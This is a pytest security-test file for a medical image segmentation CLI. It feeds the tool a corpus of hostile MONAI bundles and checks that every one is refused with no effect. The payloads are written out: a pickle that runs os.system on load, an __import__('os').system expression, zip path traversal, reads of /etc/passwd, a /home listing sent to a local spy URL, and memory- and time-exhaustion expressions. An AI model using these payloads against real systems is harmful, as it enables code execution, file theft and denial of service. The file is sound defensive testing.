"""A corpus of hostile bundles, each tried as an attacker would: none may have any effect.

Every bundle uses only what the old allow-lists admitted (MONAI components, ``$`` expressions) or
plain bundle files (pickled weights, archives). Each must be refused by ``medsegnas segment`` and
``medsegnas models import`` (refusing by default) with exit code 1 and one ``error:`` line naming the item and
the rule, leave no file anywhere, send no request (a local HTTP server records any), stay within a
memory and time bound, and never be labelled "safe" (``models import``, ``models info``, the panel's
model list).

The fast test runs the corpus through the CLI entry point in this process; the slow one runs
each command as a real subprocess and measures its peak memory.
"""

from __future__ import annotations

import copy
import http.server
import json
import os
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

import nibabel as nib
import numpy as np
import pytest
import torch
from MedSegNASLib import cli
from MedSegNASLib.models.registry import HOME_ENV, ModelRegistry
from MedSegNASLib.panels.panel_logic import model_display_name
from monai.networks.nets import UNet

pytestmark = [
    pytest.mark.filterwarnings("ignore::FutureWarning"),
    pytest.mark.filterwarnings("ignore::UserWarning"),
    pytest.mark.filterwarnings("ignore::DeprecationWarning"),
]

#: Peak resident memory a refused bundle may cost a `segment` or `models import` process (bytes).
MEMORY_BOUND = 1_500 * 1024**2
#: Wall-clock time one refused bundle may take in process (seconds, on a loaded 2-core machine).
TIME_BOUND_S = 90.0
#: The same for a whole `medsegnas` process: starting Python, torch and MONAI dominates (measured
#: 73-95 s per process with a load average of 13 on 2 cores; a few seconds on an idle machine).
PROCESS_TIME_BOUND_S = 300.0

METADATA = {
    "name": "hostile",
    "version": "0.0.1",
    "monai_version": "1.6.1",
    "network_data_format": {
        "inputs": {
            "image": {"type": "image", "modality": "CT", "num_channels": 1, "spatial_shape": [16, 16, 16]}
        },
        "outputs": {
            "pred": {"type": "image", "num_channels": 2, "channel_def": {"0": "background", "1": "organ"}}
        },
    },
}

TINY_UNET = {
    "_target_": "UNet",
    "spatial_dims": 3,
    "in_channels": 1,
    "out_channels": 2,
    "channels": [4, 8],
    "strides": [2],
    "num_res_units": 0,
}


def _base_config() -> dict:
    return {
        "imports": ["$import glob", "$import os"],
        "bundle_root": ".",
        "network_def": copy.deepcopy(TINY_UNET),
        "preprocessing": {
            "_target_": "Compose",
            "transforms": [
                {"_target_": "LoadImaged", "keys": "image"},
                {"_target_": "EnsureChannelFirstd", "keys": "image"},
                {"_target_": "Orientationd", "keys": "image", "axcodes": "RAS"},
                {
                    "_target_": "ScaleIntensityRanged",
                    "keys": "image",
                    "a_min": -57,
                    "a_max": 164,
                    "b_min": 0,
                    "b_max": 1,
                },
            ],
        },
        "inferer": {"_target_": "SlidingWindowInferer", "roi_size": [16, 16, 16], "sw_batch_size": 1},
        "postprocessing": {
            "_target_": "Compose",
            "transforms": [
                {"_target_": "Activationsd", "keys": "pred", "softmax": True},
                {"_target_": "AsDiscreted", "keys": "pred", "argmax": True},
            ],
        },
    }


@dataclass
class Case:
    """One hostile bundle: what changes in the base bundle, and what the error must name."""

    item: str  # the config item (or file) the error line must name
    rule: str  # a fragment of the rule it breaks
    config: dict = field(default_factory=dict)  # top-level items replaced or added
    pickle_payload: bool = False
    zip_traversal: bool = False


class _Touch:
    """A pickled payload that would create a file when unpickled."""

    def __init__(self, path: Path):
        self.path = str(path)

    def __reduce__(self):
        return (os.system, (f"touch {self.path}",))


def _unet(**changes: object) -> dict:
    return {**copy.deepcopy(TINY_UNET), **changes}


def corpus(sink: Path, url: str, marker: Path) -> dict[str, Case]:
    """name -> hostile bundle; ``sink``: a folder a bundle tries to write into; ``url``: the spy server."""
    saver = {
        "_target_": "SaveImage",
        "output_dir": str(sink),
        "output_postfix": "pwn",
        "separate_folder": False,
    }
    return {
        # --------------------------------------------------------------- file write
        "write: call a SaveImage item": Case(
            "network_def",
            "calls the component '@saver'",
            {
                "saver": saver,
                "network_def": _unet(
                    in_channels="$@saver(torch.tensor([[[[1.0, 2.0], [3.0, 4.0]], [[5.0, 6.0], [7.0, 8.0]]]])) is None or 1"
                ),
            },
        ),
        "write: WriteFileMapping step": Case(
            "preprocessing::transforms::4",
            "not on the allow-list",
            {
                "preprocessing": {
                    "_target_": "Compose",
                    "transforms": [
                        *_base_config()["preprocessing"]["transforms"],
                        {"_target_": "WriteFileMapping", "mapping_file_path": str(sink / "map.json")},
                    ],
                }
            },
        ),
        "write: apply_transform": Case(
            "network_def",
            "monai.transforms.apply_transform",
            {
                "saver": saver,
                "network_def": _unet(in_channels="$monai.transforms.apply_transform(@saver, 1) or 1"),
            },
        ),
        # ------------------------------------------------------- read / list outside
        "read: glob outside the bundle": Case(
            "network_def",
            "outside the bundle folder",
            {"network_def": _unet(out_channels="$len(glob.glob('/etc/*')) * 0 + 2")},
        ),
        "read: exists outside the bundle": Case(
            "network_def",
            "outside the bundle folder",
            {"network_def": _unet(out_channels="$2 if os.path.exists('/etc/passwd') else 3")},
        ),
        "read: glob through '..'": Case(
            "network_def",
            "'..'",
            {"network_def": _unet(out_channels="$len(glob.glob(@bundle_root + '/../*')) * 0 + 2")},
        ),
        "read: torch.load outside": Case(
            "network_def",
            "outside the bundle folder",
            {"network_def": _unet(out_channels="$torch.load('/etc/hostname')")},
        ),
        # ------------------------------------------------------------------ network
        "network: HoVerNet pretrained_url": Case(
            "network_def",
            "HoVerNet",
            {
                "network_def": {
                    "_target_": "HoVerNet",
                    "pretrained_url": f"$'{url}/?' + '|'.join(glob.glob('/home/*'))",
                }
            },
        ),
        "network: DenseNet pretrained": Case(
            "network_def",
            "not on the allow-list",
            {
                "network_def": {
                    "_target_": "DenseNet121",
                    "spatial_dims": 3,
                    "in_channels": 1,
                    "out_channels": 2,
                    "pretrained": True,
                }
            },
        ),
        "network: pretrained_url argument": Case(
            "network_def",
            "argument 'pretrained_url' of UNet",
            {"network_def": _unet(pretrained_url=f"{url}/w.pt")},
        ),
        "network: torch.hub": Case(
            "network_def",
            "torch.hub.load",
            {"network_def": _unet(out_channels=f"$torch.hub.load('{url}', 'x')")},
        ),
        # ------------------------------------------------------------ memory / time
        "memory: str.join": Case(
            "network_def",
            "MAX_EVALUATION_UNITS",
            {"network_def": _unet(in_channels="$len('y'.join(['x' * 999999] * 100000)) * 0 + 1")},
        ),
        "memory: nested comprehension": Case(
            "network_def",
            "MAX_EVALUATION_UNITS",
            {"network_def": _unet(in_channels="$len([[0] * 1000 for i in range(10 ** 6)]) * 0 + 1")},
        ),
        "time: nested sums": Case(
            "network_def",
            "MAX_EVALUATION_UNITS",
            {"network_def": _unet(in_channels="$sum([sum(range(10 ** 6)) for i in range(10 ** 6)]) * 0 + 1")},
        ),
        "time: power": Case(
            "network_def", "MAX_POWER_BITS", {"network_def": _unet(in_channels="$(10 ** 10 ** 10) * 0 + 1")}
        ),
        "memory: huge network": Case(
            "network_def",
            "MAX_NETWORK_PARAMETERS",
            {"network_def": _unet(channels=[4096, 4096], num_res_units=2)},
        ),
        "memory: huge activations": Case(
            "network_def",
            "MAX_ACTIVATION_BYTES",
            {
                "network_def": _unet(channels=[64, 128]),
                "inferer": {
                    "_target_": "SlidingWindowInferer",
                    "roi_size": [1024, 1024, 1024],
                    "sw_batch_size": 8,
                },
            },
        ),
        "time: window overlap": Case(
            "inferer",
            "argument 'overlap' of SlidingWindowInferer",
            {"inferer": {"_target_": "SlidingWindowInferer", "roi_size": [16, 16, 16], "overlap": 0.99}},
        ),
        # ------------------------------------------------------- calls of instances
        "call: the preprocessing": Case(
            "network_def",
            "calls the component '@preprocessing'",
            {"network_def": _unet(in_channels="$len(@preprocessing({'image': '/etc/hostname'}))")},
        ),
        "call: a built network": Case(
            "network_def",
            "calls the component '@other'",
            {
                "other": _unet(),
                "network_def": _unet(in_channels="$@other(torch.tensor([[[[[1.0]]]]])).shape[1] - 1"),
            },
        ),
        # ---------------------------------------------------- code, pickles, archives
        "code: $ expression": Case(
            "network_def",
            "__import__",
            {"network_def": _unet(in_channels=f"$__import__('os').system('touch {marker}')")},
        ),
        "code: bundle scripts": Case(
            "network_def",
            "bundle code (scripts.*)",
            {"network_def": {"_target_": "scripts.net.Net", "channels": 3}},
        ),
        "pickle: weights with code": Case("model.pt", "posix.system", pickle_payload=True),
        "archive: zip path traversal": Case("../../escaped.txt", "'..' path component", zip_traversal=True),
    }


def _write_bundle(folder: Path, case: Case, marker: Path) -> Path:
    """The hostile bundle as a folder (or a zip next to it, for the traversal case)."""
    (folder / "configs").mkdir(parents=True)
    (folder / "models").mkdir()
    (folder / "configs" / "metadata.json").write_text(json.dumps(METADATA))
    config = _base_config() | copy.deepcopy(case.config)
    (folder / "configs" / "inference.json").write_text(json.dumps(config))
    torch.manual_seed(0)
    weights: dict = dict(
        UNet(
            spatial_dims=3, in_channels=1, out_channels=2, channels=(4, 8), strides=(2,), num_res_units=0
        ).state_dict()
    )
    if case.pickle_payload:
        weights["payload"] = _Touch(marker)
    torch.save(weights, folder / "models" / "model.pt")
    if not case.zip_traversal:
        return folder
    archive = folder.parent / "hostile.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        for path in sorted(folder.rglob("*")):
            if path.is_file():
                zf.write(path, f"hostile/{path.relative_to(folder)}")
        zf.writestr(zipfile.ZipInfo("../../escaped.txt"), b"escaped")
    return archive


class _Spy(http.server.BaseHTTPRequestHandler):
    requests: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 (http.server's name)
        _Spy.requests.append(self.path)
        self.send_response(404)
        self.end_headers()

    do_POST = do_HEAD = do_GET  # noqa: N815

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def spy_server() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Spy)
    _Spy.requests = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def _image(path: Path) -> Path:
    data = np.random.default_rng(0).normal(0, 50, size=(20, 18, 16)).astype(np.float32)
    nib.save(nib.Nifti1Image(data, np.diag([2.0, 2.0, 3.0, 1.0])), str(path))
    return path


def _files(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file()}


def _one_error_line(err: str) -> str:
    lines = [line for line in err.strip().splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error: "), err
    return lines[0]


def _setup(tmp_path: Path, url: str) -> tuple[dict[str, Case], Path, Path, Path]:
    sink = tmp_path / "sink"
    sink.mkdir()
    marker = tmp_path / "MARKER"
    image = _image(tmp_path / "ct.nii.gz")
    return corpus(sink, url, marker), sink, marker, image


def test_hostile_corpus_is_refused_without_effect(
    tmp_path: Path, spy_server: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Every hostile bundle, through the CLI entry point: refused, one line, no file, no request, not "safe"."""
    cases, sink, marker, image = _setup(tmp_path, spy_server)
    home = tmp_path / "home"
    monkeypatch.setenv(HOME_ENV, str(home))
    for index, (name, case) in enumerate(cases.items()):
        source = _write_bundle(tmp_path / "bundles" / f"b{index}" / "hostile", case, marker)
        output = tmp_path / "out" / f"{index}.nii.gz"
        before = _files(tmp_path) - _files(home) if home.exists() else _files(tmp_path)
        started = time.monotonic()

        code = cli.main(["segment", str(image), "--model", str(source), "-o", str(output), "--device", "cpu"])
        line = _one_error_line(capsys.readouterr().err)
        assert code == 1 and case.item in line and case.rule in line, (name, line)

        code = cli.main(["models", "import", str(source), "--name", f"h{index}"])  # refused by default
        line = _one_error_line(capsys.readouterr().err)
        assert code == 1 and case.rule in line, (name, line)

        # --keep-untrusted keeps a bundle that needs code for review, never labelled "safe".
        code = cli.main(["models", "import", str(source), "--name", f"h{index}", "--keep-untrusted"])
        out, err = capsys.readouterr()
        if case.zip_traversal:
            assert code == 1 and case.rule in err, (name, err)
        else:
            assert code == 0 and "safe:" not in out and case.rule in err, (name, out, err)
            record = ModelRegistry().get(f"h{index}")
            assert record.trust_state == "needs --trust" and record.needs_trust, name
            assert "untrusted" in model_display_name(record), name
            code = cli.main(["models", "info", f"h{index}"])
            info = capsys.readouterr().out
            assert code == 0 and "trust:       needs --trust" in info and case.rule in info, (name, info)
            code = cli.main(["segment", str(image), "--model", f"h{index}", "-o", str(output)])
            line = _one_error_line(capsys.readouterr().err)
            assert code == 1 and "needs code to run" in line and case.rule in line, (name, line)

        assert time.monotonic() - started < TIME_BOUND_S, name
        after = _files(tmp_path) - (_files(home) if home.exists() else set())
        assert after == before, (name, sorted(map(str, after - before)))
        assert not output.exists() and not marker.exists() and not any(sink.iterdir()), name
        assert not (tmp_path / "escaped.txt").exists() and not (tmp_path.parent / "escaped.txt").exists()
        assert _Spy.requests == [], (name, _Spy.requests)


def _measured(argv: list[str], env: dict[str, str]) -> tuple[int, str, float, int]:
    """Run ``medsegnas ARGV`` in a child process: (exit code, stderr, seconds, peak RSS in bytes)."""
    wrapper = (
        "import resource, subprocess, sys, time\n"
        "t = time.monotonic()\n"
        "r = subprocess.run([sys.executable, '-m', 'MedSegNASLib.cli', *sys.argv[1:]], capture_output=True, text=True)\n"
        "sys.stderr.write(r.stderr)\n"
        "print(r.returncode, time.monotonic() - t, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024)\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", wrapper, *argv],
        capture_output=True,
        text=True,
        env=env,
        timeout=TIME_BOUND_S * 2,
    )
    code, seconds, peak = result.stdout.split()
    return int(code), result.stderr, float(seconds), int(peak)


#: One bundle of each class of the corpus, for the test in real processes (each costs two
#: interpreter starts; the fast test above runs the whole corpus).
ONE_OF_EACH_CLASS = (
    "write: call a SaveImage item",
    "read: glob outside the bundle",
    "network: HoVerNet pretrained_url",
    "memory: str.join",
    "time: nested sums",
    "memory: huge network",
    "memory: huge activations",
    "call: the preprocessing",
    "code: $ expression",
    "pickle: weights with code",
    "archive: zip path traversal",
)


@pytest.mark.slow
@pytest.mark.timeout(1800)
def test_hostile_corpus_in_real_processes_within_memory_and_time(tmp_path: Path, spy_server: str) -> None:
    """The corpus as separate `medsegnas` processes: exit 1, one line, bounded memory and time."""
    cases, sink, marker, image = _setup(tmp_path, spy_server)
    cases = {name: cases[name] for name in ONE_OF_EACH_CLASS}
    env = dict(os.environ, **{HOME_ENV: str(tmp_path / "home"), "OMP_NUM_THREADS": "1"})
    jobs = []
    for index, (name, case) in enumerate(cases.items()):
        source = _write_bundle(tmp_path / "bundles" / f"b{index}" / "hostile", case, marker)
        output = tmp_path / "out" / f"{index}.nii.gz"
        segment = ["segment", str(image), "--model", str(source), "-o", str(output), "--device", "cpu"]
        jobs.append((name, case, segment))
        jobs.append((name, case, ["models", "import", str(source), "--name", f"h{index}"]))
    before = _files(tmp_path)
    with ThreadPoolExecutor(max_workers=2) as pool:
        results = list(pool.map(lambda job: _measured(job[2], env), jobs))
    for (name, case, argv), (code, err, seconds, peak) in zip(jobs, results, strict=True):
        line = _one_error_line(err)
        assert code == 1 and case.rule in line, (name, argv[0], line)
        if argv[0] == "segment":
            assert case.item in line, (name, line)
        assert seconds < PROCESS_TIME_BOUND_S and peak < MEMORY_BOUND, (name, argv[0], seconds, peak)
        print(f"{name:36s} {argv[0]:8s} {seconds:6.1f} s  {peak / 1024**2:6.0f} MiB")
    assert _files(tmp_path) - before <= {p for p in _files(tmp_path) if (tmp_path / "home") in p.parents}
    assert not marker.exists() and not any(sink.iterdir()) and _Spy.requests == []
    assert ModelRegistry(tmp_path / "home").list() == []


def test_positive_controls_the_same_configs_act_under_monais_own_parser(
    tmp_path: Path, spy_server: str
) -> None:
    """Without the safety layer the corpus does harm: MONAI's parser writes the file and lists /etc."""
    from monai.bundle import ConfigParser

    cases, sink, marker, _ = _setup(tmp_path, spy_server)
    write = _base_config() | copy.deepcopy(cases["write: call a SaveImage item"].config)
    assert ConfigParser(write).get_parsed_content("network_def") is not None
    assert [p.name for p in sink.iterdir()], "MONAI's own parser should have written the file"
    listing = _base_config() | copy.deepcopy(cases["read: glob outside the bundle"].config)
    assert ConfigParser(listing).get_parsed_content("network_def::out_channels") == 2
    code = _base_config() | copy.deepcopy(cases["code: $ expression"].config)
    ConfigParser(code).get_parsed_content("network_def::in_channels")
    assert marker.exists()


def test_catalog_labels_follow_the_check_of_the_published_configs() -> None:
    """The catalog says "safe" for a bundle exactly when its published inference path passes the check."""
    from MedSegNASLib.models.bundle import inference_path_problems, load_config_file
    from MedSegNASLib.models.registry import SEGMENT_CONFIG_IDS, load_catalog

    zoo = Path(__file__).parent / "data" / "model_zoo"
    checked = 0
    for name, entry in load_catalog().items():
        root = zoo / name
        if not root.is_dir():
            continue
        config = load_config_file(next((root / "configs").glob("inference.*")))
        problems = inference_path_problems(root, config, SEGMENT_CONFIG_IDS)
        assert entry.needs_trust == bool(problems), (name, problems)
        assert all(problem in problems for problem in entry.trust_problems), (name, problems)
        checked += 1
    assert checked >= 8
